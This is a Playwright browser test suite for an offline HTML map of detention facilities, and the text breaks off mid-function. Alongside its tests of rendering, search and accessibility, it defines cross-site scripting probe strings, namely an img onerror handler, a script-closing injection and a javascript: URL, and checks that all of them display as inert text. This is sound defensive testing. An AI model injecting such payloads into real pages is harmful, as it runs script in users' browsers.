"""The HTML map in a real browser (Debian's headless Chromium, via Playwright).

Maps are built once per module from the committed layer and the synthetic demo testimonies,
then opened from file:// with every request recorded; anything but the file is aborted.
"""

from __future__ import annotations

import json
from collections import defaultdict

import geopandas as gpd
import pytest
from shapely.geometry import Point

from mapper.join import join_testimonies, read_testimonies
from mapper.layer import load_facilities
from mapper.paths import demo_testimonies_path
from mapper.render import render_map

pytestmark = pytest.mark.browser

HOSTILE = [
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=2</script>",
    "Quote \" apostrophe ' backtick ` backslash \\ <!-- comment -->",
    "Line\u2028sep\u2029 &amp; &lt;b&gt; ${window.__pwned=4}",
]


@pytest.fixture(scope="module")
def layer():
    return load_facilities()


@pytest.fixture(scope="module")
def maps(tmp_path_factory, layer):
    """The demo map (joined, English), a Ukrainian map, and a map of hostile names."""
    d = tmp_path_factory.mktemp("maps")
    demo = join_testimonies(layer, read_testimonies(demo_testimonies_path()))
    render_map(demo).save(d / "demo.html")
    render_map(layer, lang="uk").save(d / "uk.html")
    hostile = gpd.GeoDataFrame({
        "id": [f"x-hostile-{i}" for i in range(len(HOSTILE))],
        "name_en": HOSTILE, "name_uk": HOSTILE[::-1], "name_ru": HOSTILE,
        "aliases": [[h] for h in HOSTILE],
        "facility_type": ["sizo", "penal_colony", "other", "improvised"],
        "country": ["RU", "RU", "UA", "UA"], "occupied": [False, False, True, True],
        "region_code": ["RU-ROS", "RU-ROS", "UA-14", "UA-43"],
        "region_en": HOSTILE, "settlement_en": HOSTILE, "settlement_local": HOSTILE,
        "geocode_precision": ["exact", "settlement", "region", "settlement"],
        "sources": [[{"url": "javascript:window.__pwned=3", "date": None}],
                    [{"url": "https://example.org/?a=1&b=</script>", "date": "2023"}],
                    [{"url": HOSTILE[0], "date": None}], []],
        "reported_detainees": ["pow"] * 4, "context": ["captivity_since_2022"] * 4,
        "notes": HOSTILE,
    }, geometry=[Point(39.0, 47.2), Point(39.5, 47.5), Point(37.8, 48.0), Point(34.1, 44.9)],
        crs="EPSG:4326")
    render_map(hostile, title=HOSTILE[1], notes=True).save(d / "hostile.html")
    return {"dir": d, "demo": d / "demo.html", "uk": d / "uk.html",
            "hostile": d / "hostile.html", "join": demo}


def _only_the_file(page, path):
    url = path.resolve().as_uri()
    assert page.blocked == [], f"requests to other places: {page.blocked}"
    assert [r.split("#")[0] for r in page.requests] == [url]


def test_loads_offline_without_errors(open_page, maps):
    page = open_page(maps["demo"])
    page.wait_for_timeout(300)
    assert page.errors == []
    _only_the_file(page, maps["demo"])
    # the demo (synthetic) map says so, visibly, on the map itself
    banner = page.locator(".mapper-banner.synthetic")
    assert banner.is_visible()
    assert "SYNTHETIC" in banner.inner_text()
    # the compressed blocks were inflated: regions, choropleth are drawn; transfer flows
    # are off by default (a calm first view) and drawn when switched on
    assert len(page.evaluate("mapperTest.choroRegions()")) > 0
    assert page.locator(".leaflet-flows-pane path").count() == 0
    page.locator('input[data-layer="flows"]').check()
    assert page.locator(".leaflet-flows-pane path").count() > 0
    assert page.locator(".lbl.region").count() + page.locator(".lbl.country").count() > 0


def test_browser_without_decompression_says_so(browser, maps):
    """A browser without DecompressionStream gets a message, not a blank page."""
    url = maps["uk"].resolve().as_uri()
    ctx = browser.new_context()
    ctx.add_init_script("delete window.DecompressionStream;")
    page = ctx.new_page()
    requests, errors = [], []
    page.route("**/*", lambda r: r.continue_() if r.request.url == url else r.abort())
    page.on("request", lambda req: requests.append(req.url))
    page.on("pageerror", lambda e: errors.append(str(e)))
    try:
        page.goto(url)
        msg = page.locator("#map .mapper-unsupported[role=alert]")
        msg.wait_for()
        assert "DecompressionStream" in msg.inner_text()
        assert "Firefox (113+)" in msg.inner_text() and "GeoJSON" in msg.inner_text()
        assert msg.inner_text().startswith("Цей браузер")  # in the map's language
        assert "DecompressionStream" in page.locator("#mapper-table-body").inner_text()
        assert page.evaluate("typeof window.mapperTest") == "undefined"
        assert errors == [] and requests == [url]
    finally:
        ctx.close()


def test_every_facility_is_drawn(open_page, maps, layer):
    """Each feature of facilities.geojson is on screen: as a marker or inside a cluster
    icon whose number counts it; the numbers on screen add up to the layer."""
    page = open_page(maps["demo"])
    assert page.evaluate("mapperTest.features") == len(layer)
    assert sorted(page.evaluate("mapperTest.ids()")) == sorted(layer["id"])
    page.evaluate("mapperTest.frameAll()")  # the first view frames the bulk, not outliers
    drawn = page.evaluate("""() => {
        const singles = [...document.querySelectorAll('.leaflet-marker-icon.mf[data-id]')]
            .map(e => e.dataset.id);
        const clustered = [...document.querySelectorAll('.mc span[data-count]')]
            .map(e => +e.dataset.count).reduce((a, b) => a + b, 0);
        const cl = mapperTest.clusters;
        const hidden = [];
        cl.getLayers().forEach(m => {
            const p = cl.getVisibleParent(m);
            const shown = p && p._icon && document.body.contains(p._icon);
            if (!shown) hidden.push(m.feature.properties.id);
        });
        const badged = [...document.querySelectorAll('.rb .rb-in')]
            .map(e => +e.textContent).reduce((a, b) => a + b, 0);
        return {singles, clustered, hidden, badged};
    }""")
    assert drawn["hidden"] == []
    assert len(set(drawn["singles"])) == len(drawn["singles"])
    # region-level facilities are counted in region badges, never drawn as points
    n_region = int((layer["geocode_precision"] == "region").sum())
    assert drawn["badged"] == n_region
    assert len(drawn["singles"]) + drawn["clustered"] == len(layer) - n_region


def test_colocated_facilities_spread_and_clickable(open_page, maps, layer):
    groups = defaultdict(list)
    for fid, g in zip(layer["id"], layer.geometry, strict=True):
        groups[(round(g.x, 5), round(g.y, 5))].append(fid)
    biggest = max(groups.values(), key=len)
    assert len(biggest) >= 3, "expected several facilities at one settlement point"
    page = open_page(maps["demo"])
    page.evaluate("id => mapperTest.focus(id)", biggest[0])
    page.wait_for_selector(".leaflet-popup .mp")
    page.wait_for_timeout(600)  # spiderfy animation
    visible = page.evaluate("""ids => ids.filter(id => {
        const e = document.querySelector('.mf[data-id="' + id + '"]');
        if (!e) return false;
        const r = e.getBoundingClientRect();
        return r.width > 0 && r.height > 0;
    })""", biggest)
    assert sorted(visible) == sorted(biggest)
    # and each spread marker is its own clickable target: click another one
    other = biggest[-1]
    page.evaluate("() => { mapperTest.map.closePopup(); }")
    # bring the spread group into the middle of the view: since branch i8reg the biggest
    # group is Izium's eight sites, whose spread (about 130 px across) reached below the
    # 800-px viewport and under the attribution control where the popup had panned the map
    g = layer.loc[layer.id == other, "geometry"].item()
    page.evaluate("([lat, lon]) => { mapperTest.map.panTo([lat, lon], {animate: false}); }",
                  [g.y, g.x])
    page.locator(f'.mf[data-id="{other}"]').click(force=True)
    name = layer.loc[layer.id == other, "name_en"].item()
    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{other}"]')
    assert page.locator(f'.leaflet-popup .mp[data-id="{other}"] h3').inner_text() == name


def test_click_marker_opens_its_popup(open_page, maps, layer):
    counts = layer.geometry.apply(lambda g: (round(g.x, 5), round(g.y, 5))).value_counts()
    alone = layer[layer.geometry.apply(lambda g: counts[(round(g.x, 5), round(g.y, 5))] == 1)
                  & (layer["geocode_precision"] != "region")]  # region-level: a badge, no marker
    row = alone.iloc[len(alone) // 2]
    page = open_page(maps["demo"])
    page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 11, {animate: false}); }",
                  [row.geometry.y, row.geometry.x])
    marker = page.locator(f'.mf[data-id="{row["id"]}"]')
    marker.wait_for()
    marker.click()
    popup = page.locator(".leaflet-popup .mp")
    popup.wait_for()
    assert popup.locator("h3").inner_text() == row["name_en"]
    text = popup.inner_text()
    assert "Sources" in text
    links = popup.locator("ol a")
    assert links.count() == len(row["sources"])
    for i in range(links.count()):
        assert links.nth(i).get_attribute("rel") == "noopener noreferrer"
        assert links.nth(i).get_attribute("target") == "_blank"
    # the popup offers a link to itself
    link = popup.locator(".link input").input_value()
    assert link.endswith("#id=" + row["id"])
    assert page.errors == []


def test_deep_link_opens_the_facility(open_page, maps, layer):
    # a facility with its own point (a region-level one opens at the region, zoom 6, by design:
    # at 295 facilities the row a third of the way down is Tabaga's region-level hospital)
    points = layer[layer["geocode_precision"] != "region"]
    row = points.iloc[len(points) // 3]
    page = open_page(maps["demo"], hash_="#id=" + row["id"])
    page.wait_for_selector(".leaflet-popup .mp")
    assert page.locator(".leaflet-popup .mp h3").inner_text() == row["name_en"]
    # in view and zoomed in (the popup pans the map so that it clears the title panel)
    view = page.evaluate("([lat, lon]) => ({in: mapperTest.map.getBounds()"
                         ".contains([lat, lon]), zoom: mapperTest.map.getZoom()})",
                         [row.geometry.y, row.geometry.x])
    assert view["in"] and view["zoom"] >= 8


def test_every_facility_can_be_focused_and_opened(open_page, maps, layer):
    """The deep link / table "show on map" works for every facility, clustered or not."""
    page = open_page(maps["demo"])
    names = dict(zip(layer["id"], layer["name_en"], strict=True))
    failed = []
    for i, (fid, name) in enumerate(names.items()):
        # from the whole map (clustered) for every fifth facility, from the last one's view
        # for the others: redrawing the whole map costs about 0.5 s a time in headless
        # Chromium, and the test took over three minutes when every focus started there
        page.evaluate("([id, whole]) => { mapperTest.map.closePopup();"
                      " if (whole) mapperTest.map.setView([55, 45], 4, {animate: false});"
                      " mapperTest.focus(id); }", [fid, i % 5 == 0])
        try:
            page.wait_for_function("n => { var h = document.querySelector("
                                   "'.leaflet-popup .mp h3'); return h && h.textContent === n; }",
                                   arg=name, timeout=3000)
        except Exception:
            failed.append(fid)
    assert failed == []


def _search(page, query):
    page.fill("#mapper-search", query)
    return page.locator("#mapper-results button").evaluate_all("bs => bs.map(b => b.dataset.id)")


def test_search_cyrillic_and_latin(open_page, maps, layer):
    taganrog = set(layer.loc[layer["settlement_en"].fillna("").str.contains("Taganrog"), "id"])
    assert taganrog, "the layer has facilities in Taganrog"
    page = open_page(maps["demo"])
    for query in ("Таганрог", "Taganrog", "TAHANROH", "таганрозький"[:7]):
        found = set(_search(page, query))
        assert taganrog <= found, query
    # a Cyrillic alias, typed without its case
    with_alias = layer[layer["aliases"].apply(
        lambda a: any(any("а" <= ch <= "я" or ch in "іїєґ" for ch in x.lower()) for x in a))]
    row = with_alias.iloc[0]
    alias = next(a for a in row["aliases"] if any("а" <= c <= "я" for c in a.lower()))
    assert row["id"] in _search(page, alias.upper())
    # choosing a result opens that facility
    page.fill("#mapper-search", "Taganrog")
    page.locator("#mapper-results button").first.click()
    page.wait_for_selector(".leaflet-popup .mp")
    assert page.locator(".leaflet-popup .mp").get_attribute("data-id") in taganrog


def test_hostile_names_are_text(open_page, maps):
    page = open_page(maps["hostile"])
    page.wait_for_timeout(300)
    for i, name in enumerate(HOSTILE):
        page.evaluate("id => mapperTest.focus(id)", f"x-hostile-{i}")
        popup = page.locator(f'.leaflet-popup .mp[data-id="x-hostile-{i}"]')
        popup.wait_for()
        assert popup.locator("h3").evaluate("e => e.textContent") == name
        assert popup.locator("img, script, iframe").count() == 0
        notes = popup.locator(".notes").evaluate("e => e.lastChild.textContent")
        assert notes == name
    assert page.evaluate("typeof window.__pwned") == "undefined"
    # a javascript: source is shown as text, never as a link
    page.evaluate("id => mapperTest.focus(id)", "x-hostile-0")
    popup = page.locator('.leaflet-popup .mp[data-id="x-hostile-0"]')
    popup.wait_for()
    assert popup.locator("ol a").count() == 0
    assert "javascript:window.__pwned=3" in popup.locator("ol").inner_text()
    # the title and the table show the names literally
    assert page.locator(".mapper-title h1").evaluate("e => e.textContent") == HOSTILE[1]
    cells = page.locator("#mapper-table tbody th").evaluate_all("c => c.map(x => x.textContent)")
    assert sorted(cells) == sorted(HOSTILE)
    assert page.title() == HOSTILE[1]
    assert page.errors == []
    _only_the_file(page, maps["hostile"])


def test_ukrainian_interface(open_page, maps):
    page = open_page(maps["uk"])
    assert page.evaluate("document.documentElement.lang") == "uk"
    assert page.locator(".mapper-filters summary").inner_text() == "Фільтри та шари"
    assert page.locator(".mapper-legend summary").inner_text() == "Легенда"
    assert "Місць утримання" in page.locator(".mapper-sub").inner_text()
    assert page.locator("#mapper-search").get_attribute("aria-label") == "Пошук місць утримання"
    assert page.errors == []


@pytest.mark.parametrize("width", [1280, 390])
def test_the_search_hint_is_read_whole_in_every_language(open_page, maps, layer, width):
    # a placeholder cut off ("… (будь-яким письм") hides the very words that say what to type
    ru = maps["dir"] / "ru.html"
    if not ru.exists():
        render_map(layer, lang="ru").save(ru)
    for path in (maps["demo"], maps["uk"], ru):
        page = open_page(path, width=width, height=800)
        text_px, room_px = page.evaluate("""() => {
            const i = document.querySelector('#mapper-search'), cs = getComputedStyle(i);
            const c = document.createElement('canvas').getContext('2d');
            c.font = cs.font;
            return [c.measureText(i.placeholder).width, i.clientWidth
                    - parseFloat(cs.paddingLeft) - parseFloat(cs.paddingRight)]; }""")
        assert text_px <= room_px, (path.name, width, text_px, room_px)


def test_the_credits_never_cover_the_scale_bar(open_page, maps):
    # long credits once wrapped across the whole bottom edge, over the scale bar, in every
    # window narrower than about 1,100 px and on paper
    overlap = """() => {
        const a = document.querySelector('.leaflet-control-attribution').getBoundingClientRect(),
              s = document.querySelector('.leaflet-control-scale').getBoundingClientRect();
        return a.width > 0 && s.width > 0 && !(a.right <= s.left || s.right <= a.left
            || a.bottom <= s.top || s.bottom <= a.top); }"""
    for path in (maps["demo"], maps["uk"]):
        for width in (1280, 1024, 760, 390):
            page = open_page(path, width=width, height=800)
            assert not page.evaluate(overlap), (path.name, width)
        page.emulate_media(media="print")
        page.set_viewport_size({"width": 1280, "height": 800})
        page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
        assert page.evaluate("document.documentElement.classList.contains('mapper-printing')")
        assert not page.evaluate(overlap), (path.name, "print")


def test_the_credits_are_read_whole_on_a_phone(open_page, maps):
    # on a phone the credits were one line scrolled sideways: the licences (CC BY) were cut off
    # until a reader thought to scroll them; now they wrap, under the bottom-left controls
    check = """() => {
        const a = document.querySelector('.leaflet-control-attribution'),
              r = a.getBoundingClientRect();
        const over = [...document.querySelectorAll('.leaflet-bottom.leaflet-left .leaflet-control')]
            .map(c => c.getBoundingClientRect()).filter(c => c.width > 0 && !(r.right <= c.left
                || c.right <= r.left || r.bottom <= c.top || c.bottom <= r.top)).length;
        return [a.scrollWidth - a.clientWidth, over, r.bottom <= innerHeight]; }"""
    for path in (maps["demo"], maps["uk"]):
        for width, height in ((390, 844), (360, 640)):
            page = open_page(path, width=width, height=height)
            assert page.evaluate(check) == [0, 0, True], (path.name, width)


def test_filters_and_table(open_page, maps, layer):
    page = open_page(maps["demo"])
    # the table's rows, not its <tr>s: above table.js's VIRTUAL_FROM (300 rows; the layer has
    # 306 since branch reg53) only the rows in view are in the DOM
    rows = page.locator("#mapper-table tbody tr[data-id]")
    assert page.evaluate("mapperTest.tableRows()") == len(layer)
    assert 0 < rows.count() <= len(layer)
    n_ru = int((layer.country == "RU").sum())
    page.locator('input[data-group="terr"][data-key="ru"]').uncheck()
    assert page.evaluate("mapperTest.tableRows()") == len(layer) - n_ru
    placed_ua = int(((layer.country != "RU") & (layer.geocode_precision != "region")).sum())
    assert page.evaluate("mapperTest.markersInLayer()") == placed_ua
    page.locator(".mapper-filters button", has_text="Show all").click()
    assert page.evaluate("mapperTest.tableRows()") == len(layer)
    # sortable by keyboard: the heading is a button, and aria-sort follows
    page.locator('#mapper-table th button[data-sort="name"]').focus()
    page.keyboard.press("Enter")
    assert page.locator('#mapper-table th:has(button[data-sort="name"])').get_attribute(
        "aria-sort") == "descending"


def test_screenshot_is_a_map(open_page, maps, tmp_path_factory):
    page = open_page(maps["demo"], width=1400, height=950)
    page.wait_for_timeout(500)
    out = maps["dir"] / "demo.png"
    png = page.screenshot(path=str(out))
    from io import BytesIO

    import matplotlib.image as mpimg
    import numpy as np

    img = mpimg.imread(BytesIO(png), format="png")
    colours = np.unique((img[..., :3] * 255).astype(np.uint8).reshape(-1, 3), axis=0)
    assert len(colours) > 200, "the screenshot looks blank"
    # sea, land and markers: no single colour covers more than 60% of the picture
    flat = (img[..., :3] * 255).astype(np.uint8).reshape(-1, 3)
    _, counts = np.unique(flat, axis=0, return_counts=True)
    assert counts.max() / len(flat) < 0.6
    print(json.dumps({"screenshot": str(out)}))


def test_jupyter_iframe_inflates_the_data(open_page, maps, layer):
    """Inline in a notebook: a sandboxed srcdoc iframe (opaque origin) still reads the data."""
    wrapper = maps["dir"] / "notebook.html"
    wrapper.write_text("<!DOCTYPE html><html><body>" + render_map(layer)._repr_html_()
                       + "</body></html>", encoding="utf-8")
    page = open_page(wrapper, wait_for=None)
    frame = page.wait_for_selector("iframe").content_frame()  # attached, not just parsed
    frame.wait_for_function("window.mapperTest && window.mapperTest.ready", timeout=30000)
    assert frame.evaluate("mapperTest.features") == len(layer)
    assert page.errors == []
    _only_the_file(page, wrapper)


# --- accessibility and keyboard (issue 9, point 7) ------------------------------------------

@pytest.fixture(scope="module")
def public_map(maps, layer):
    path = maps["dir"] / "public.html"
    render_map(maps["join"], public=True).save(path)
    return path


def _axe_violations(page) -> list:
    """axe-core's critical, serious and moderate violations on the page as it is now (a
    moderate one is a real reader's problem too: headings out of order mislead a screen
    reader's outline)."""
    from axe_playwright_python.sync_playwright import Axe

    # the page settled: no CSS transition still running (a popup fading in has text at part
    # opacity, which axe reads as low contrast), then two animation frames
    page.wait_for_function("() => document.getAnimations().every(a => a.playState !== 'running')")
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
    result = Axe().run(page)
    return [(v["id"], v["impact"], [n["target"] for n in v["nodes"]][:5])
            for v in result.response["violations"]
            if v["impact"] in ("moderate", "serious", "critical")]


@pytest.mark.parametrize("which,size", [("demo", (1440, 900)), ("public", (1440, 900)),
                                        ("uk", (1440, 900)), ("demo", (390, 844))])
def test_axe_no_moderate_serious_or_critical(browser, maps, public_map, which, size):
    """axe-core (axe-playwright-python) on the default, public, uk and phone maps, first as
    they open and then with a facility's popup and the legend open."""
    path = public_map if which == "public" else maps[which]
    # axe is injected as a script: this one context lets it past the page's CSP (the page's
    # own scripts are the same either way); requests are still confined to the file
    ctx = browser.new_context(viewport={"width": size[0], "height": size[1]}, bypass_csp=True)
    page = ctx.new_page()
    url = path.resolve().as_uri()
    blocked = []
    page.route("**/*", lambda r: r.continue_() if r.request.url.split("#")[0] == url
               else (blocked.append(r.request.url), r.abort()))
    page.goto(url)
    page.wait_for_function("() => window.mapperTest && window.mapperTest.ready")
    assert _axe_violations(page) == []
    page.evaluate("id => mapperTest.focus(id)", "ru-rostov-taganrog-sizo-2")
    page.wait_for_selector(".leaflet-popup .mp")
    page.evaluate("document.querySelector('.mapper-legend').open = true")
    assert _axe_violations(page) == []
    assert blocked == []
    ctx.close()


def test_tab_order_search_first_and_every_stop_named(open_page, maps):
    page = open_page(maps["demo"])
    stops = []
    for _ in range(70):
        page.keyboard.press("Tab")
        stops.append(page.evaluate("""() => { const e = document.activeElement;
            return e.matches('.mf, .mc, .rb') ? 'shape' : (e.id || e.className || e.tagName); }"""))
    assert stops[0] == "skip"
    # the map itself (keyboard panning), the title's "About" link, then search: all before
    # the first facility, cluster or badge
    assert stops.index("mapper-search") <= 4, stops
    assert "shape" in stops and stops.index("mapper-search") < stops.index("shape"), str(stops)
    # the map's shapes: every tab stop among them is a facility, cluster or region badge with
    # a name; labels, regions, flows, choropleth shapes are not tab stops
    bad = page.evaluate("""() => [...document.querySelectorAll('.leaflet-map-pane [tabindex], '
        + '.leaflet-map-pane a, .leaflet-map-pane button, .leaflet-map-pane input')]
        .filter(e => e.tabIndex >= 0 && !e.closest('.leaflet-popup'))
        .filter(e => !(e.matches('.mf, .mc, .rb') && (e.getAttribute('aria-label')
            || e.textContent.trim() || e.querySelector('[aria-label]'))))
        .map(e => e.outerHTML.slice(0, 120))""")
    assert bad == []


def _first_cluster(page):
    page.wait_for_selector(".leaflet-marker-icon.mc")
    return page.locator(".leaflet-marker-icon.mc").first


def test_cluster_opens_by_keyboard(open_page, maps):
    page = open_page(maps["demo"])
    zoom = page.evaluate("mapperTest.map.getZoom()")
    cluster = _first_cluster(page)
    n = int(cluster.locator("span[data-count]").get_attribute("data-count"))
    cluster.focus()
    page.keyboard.press("Enter")
    # it zooms in, or (facilities at one point: the same town's centre) spreads them out
    page.wait_for_function("z => mapperTest.map.getZoom() > z || "
                           "document.activeElement.matches('.mf')", arg=zoom)
    # focus went on into what the cluster held: a facility or a smaller cluster
    focused = page.evaluate("""() => { const e = document.activeElement;
        return e.matches('.mf') ? 1 : e.matches('.mc') ? +e.querySelector('[data-count]')
            .dataset.count : 0; }""")
    assert 1 <= focused <= n
    # and Space works the same
    page.evaluate("() => { mapperTest.map.setZoom(3, {animate: false}); }")
    cluster = _first_cluster(page)
    cluster.focus()
    page.keyboard.press(" ")
    page.wait_for_function("() => mapperTest.map.getZoom() > 3 || "
                           "document.activeElement.matches('.mf')")


def test_popup_takes_focus_and_escape_gives_it_back(open_page, maps, layer):
    fid = "ru-rostov-taganrog-sizo-2"
    row = layer[layer.id == fid].iloc[0]
    page = open_page(maps["demo"])
    page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 12, {animate: false}); }",
                  [row.geometry.y, row.geometry.x])
    marker = page.locator(f'.mf[data-id="{fid}"]')
    if marker.count() == 0:  # several facilities at one point: spread them out first
        _first_cluster(page).focus()
        page.keyboard.press("Enter")
        marker.wait_for()
    marker.focus()
    page.keyboard.press("Enter")
    page.wait_for_selector(f'.leaflet-popup .mp[data-id="{fid}"]')
    assert page.evaluate("document.activeElement.closest('.leaflet-popup') !== null")
    assert page.evaluate("document.activeElement.tagName") == "H3"
    page.keyboard.press("Escape")
    page.wait_for_selector(".leaflet-popup", state="detached")
    assert page.evaluate("document.activeElement.dataset.id") == fid


def test_marker_names_say_type_territory_and_precision(open_page, maps, layer):
    fid = "ru-rostov-taganrog-sizo-2"
    row = layer[layer.id == fid].iloc[0]
    assert row["geocode_precision"] == "settlement"
    page = open_page(maps["demo"])
    page.evaluate("id => mapperTest.focus(id)", fid)
    page.wait_for_selector(".leaflet-popup .mp")
    label = page.locator(f'.mf[data-id="{fid}"]').get_attribute("aria-label")
    assert label.startswith(row["name_en"] + " — ")
    assert "Pre-trial detention centre (SIZO)" in label
    assert "Russia" in label
    assert f"somewhere in {row['settlement_en']}" in label
    # the type is told by a letter as well as by hue
    assert page.locator(f'.mf[data-id="{fid}"] svg text').text_content() == "S"


def test_reduced_motion_is_honoured(browser, maps):
    ctx = browser.new_context(reduced_motion="reduce")
    page = ctx.new_page()
    url = maps["demo"].resolve().as_uri()
    page.route("**/*", lambda r: r.continue_() if r.request.url.split("#")[0] == url
               else r.abort())
    page.goto(url)
    page.wait_for_function("() => window.mapperTest && window.mapperTest.ready")
    opts = page.evaluate("""() => { const o = mapperTest.map.options;
        return [o.zoomAnimation, o.fadeAnimation, o.markerZoomAnimation]; }""")
    assert opts == [False, False, False]
    ctx.close()



def test_pan_animation_moves_by_whole_pixels(open_page, maps):
    """A pan animation (inertia after a drag, keyboard, `panBy`) steps the map pane by whole
    pixels, so icons are not re-rasterised at a new fractional offset in every frame, and
    ends exactly where it was sent."""
    page = open_page(maps["demo"])
    steps, start, end = page.evaluate("""() => new Promise(done => {
        const map = mapperTest.map, pane = map.getPane('mapPane'), steps = [];
        const start = L.DomUtil.getPosition(pane);
        map.once('moveend', () => done([steps, [start.x, start.y],
            [L.DomUtil.getPosition(pane).x, L.DomUtil.getPosition(pane).y]]));
        map.panBy([301, -77], {duration: 0.5});
        (function watch() { const p = L.DomUtil.getPosition(pane); steps.push([p.x, p.y]);
            if (map._panAnim && map._panAnim._inProgress) requestAnimationFrame(watch); })();
    })""")
    assert len(steps) > 3
    assert all(x == round(x) and y == round(y) for x, y in steps), steps
    assert end == [start[0] - 301, start[1] + 77]


_STILL = """() => { let cv = null;
    mapperTest.map.eachLayer(l => { if (l instanceof MapperLayers.StillCanvas) cv = l; });
    return cv; }"""


def test_basemap_redrawn_after_a_long_pan_is_whole_and_shown(open_page, maps):
    """A pan that leaves the basemap canvas's drawn area redraws it across several animation
    frames; it ends whole (every shape: the same pixels as a redraw in one go) and shown (its
    up-to-date still copy in its place), also when a newer pan or a zoom cuts a redraw short."""
    page = open_page(maps["demo"])
    # a small budget: many slices, whatever the machine's speed
    page.evaluate(f"() => {{ window.__cv = ({_STILL})(); __cv.options.sliceMs = 1; }}")
    settled = """() => { const cv = __cv, img = cv._still, c = cv._container;
        const at = /translate3d\\(([-\\d.e]+px), ([-\\d.e]+px)/.exec(c.style.transform);
        return !cv._slicing && !!img && img.version === cv._version && img.style.display === ''
            && c.style.display === 'none' && !!at && img.style.transform.replace(/ /g, '')
                === 'translate(' + at[1] + ',' + at[2] + ')'; }"""
    whole = """() => { const cv = __cv, c = cv._container, drawn = c.toDataURL();
        cv._redrawBounds = null; cv._clear(); L.Canvas.prototype._draw.call(cv);
        return drawn === c.toDataURL(); }"""
    page.wait_for_function(settled)

    def pan(dx, dy):
        return page.evaluate("""([dx, dy]) => { const v = __cv._version;
            mapperTest.map.panBy([dx, dy], {animate: false});
            return [__cv._version > v, !!__cv._slicing]; }""", [dx, dy])

    # a long pan (less than a view: a longer `panBy` is a reset, drawn in one go)
    # is redrawn in slices, not in the frame that ends the pan
    assert pan(1000, 300) == [True, True]
    page.wait_for_function(settled)
    assert page.evaluate(whole)
    # a newer pan while a redraw is under way: the stale one stops, the new one ends whole
    assert pan(-1200, 0) == [True, True]
    page.evaluate("() => new Promise(r => requestAnimationFrame(r))")
    assert pan(0, 700) == [True, True]
    page.wait_for_function(settled)
    assert page.evaluate(whole)
    # an (animated) zoom while a redraw is under way: drawn whole at the new zoom
    assert pan(1100, 0) == [True, True]
    page.evaluate("() => { const m = mapperTest.map; m.setZoom(m.getZoom() + 1); }")
    page.wait_for_function(settled)
    assert page.evaluate(whole)
    assert page.errors == []

# --- honest precision (point 2) -----------------------------------------------------------------

def test_region_level_facilities_are_badges_not_points(open_page, maps, layer):
    region_level = layer[layer.geocode_precision == "region"]
    row = region_level[region_level.region_code == "RU-DA"].iloc[0]  # Dagestan: one colony
    page = open_page(maps["demo"])
    placed = page.evaluate("""() => { const ids = [];
        mapperTest.clusters.getLayers().forEach(m => ids.push(m.feature.properties.id));
        return ids; }""")
    assert not set(placed) & set(region_level["id"])
    assert sorted(page.evaluate("mapperTest.badgeIds()")) == sorted(region_level["id"])
    page.evaluate("([lat, lon]) => { mapperTest.map.setView([lat, lon], 7, {animate: false}); }",
                  [row.geometry.y, row.geometry.x])  # the region's representative point
    badge = page.locator('.rb[data-region="RU-DA"]')
    n_here = int((region_level.region_code == "RU-DA").sum())
    assert n_here == 1
    assert badge.get_attribute("aria-label") == (
        "Facilities known only to the region (Republic of Dagestan): 1. Select to list them.")
    badge.click()
    listing = page.locator('.leaflet-popup .mb[data-region="RU-DA"]')
    listing.wait_for()
    assert "Only the region is known" in listing.inner_text()
    listing.locator(f'button[data-id="{row["id"]}"]').click()
    popup = page.locator(f'.leaflet-popup .mp[data-id="{row["id"]}"]')
    popup.wait_for()
    assert "only the region is known (Republic of Dagestan)" in popup.inner_text()
    # the region's outline is drawn while it is open (waited for: a busy machine draws late)
    page.wait_for_function(
        "document.querySelectorAll('.leaflet-context-pane path').length >= 1", timeout=5000)


def test_settlement_level_says_somewhere_in_and_legend_and_table_agree(open_page, maps):
    page = open_page(maps["demo"])
    fid = "ru-rostov-taganrog-sizo-2"
    page.evaluate("id => mapperTest.focus(id)", fid)
    popup = page.locator(f'.leaflet-popup .mp[data-id="{fid}"]')
    popup.wait_for()
    assert "somewhere in Taganrog" in popup.inner_text()
    # both rows are in Russia: with occupied Ukraine filtered out the table is short enough
    # (under table.js's VIRTUAL_FROM, 300) to hold every row in the DOM
    for key in ("ua_occupied", "ua_liberated"):
        box = page.locator(f'input[data-group="terr"][data-key="{key}"]')
        if box.count():
            box.uncheck()
    where = page.locator(f'#mapper-table tr[data-id="{fid}"] td').nth(3).inner_text()
    assert where == "somewhere in Taganrog"
    dagestan = page.locator('#mapper-table tr[data-id="ru-dagestan-unspecified-colony"] td')
    assert dagestan.nth(3).inner_text() == "only the region is known (Republic of Dagestan)"
    page.locator(".mapper-legend summary").click()
    legend = page.locator(".mapper-legend").inner_text()
    assert "Settlement: Somewhere in the named town" in legend
    assert "Region only: a badge on the region" in legend


# --- a calm default (point 3) -------------------------------------------------------------------

def _inside(pt, rect):
    return rect["left"] <= pt[0] <= rect["right"] and rect["top"] <= pt[1] <= rect["bottom"]


@pytest.mark.parametrize("size", [(1440, 900), (390, 844)])
def test_first_view_frames_facilities_clear_of_panels(open_page, maps, layer, size):
    page = open_page(maps["demo"], width=size[0], height=size[1])
    inside = page.evaluate("""() => { const b = mapperTest.map.getBounds(), ids = [];
        mapperTest.clusters.getLayers().forEach(m => {
            if (b.contains(m.getLatLng())) ids.push(m.feature.properties.id); });
        return ids; }""")
    drawn = layer[layer.geocode_precision != "region"]  # region-level ones are badges
    # the bulk is in view (a few colonies in Siberia and the Far East may be outside) ...
    assert len(inside) >= 0.75 * len(drawn), len(inside)
    # ... and all of Ukraine, where most of the facilities are
    ukraine = set(drawn[drawn.country == "UA"]["id"])
    assert ukraine <= set(inside), sorted(ukraine - set(inside))
    # no facility or cluster is drawn under the title panel (or the open filters panel)
    panels = page.evaluate("""() => [...document.querySelectorAll('.mapper-title, '
        + '.mapper-filters[open]')].map(e => e.getBoundingClientRect().toJSON())""")
    # every facility or cluster inside the framed bulk is clear of the panels (beyond the
    # frame's edge, e.g. east of the Volga behind the filters, they may be covered)
    centres = page.evaluate("""() => {
        const pts = []; mapperTest.clusters.getLayers().forEach(m => pts.push(
            m.feature.geometry.coordinates));
        const b = L.latLngBounds(MapperUtil.bulkBounds(pts, 5)).pad(-0.02), out = [];
        document.querySelectorAll('.mf, .mc').forEach(e => {
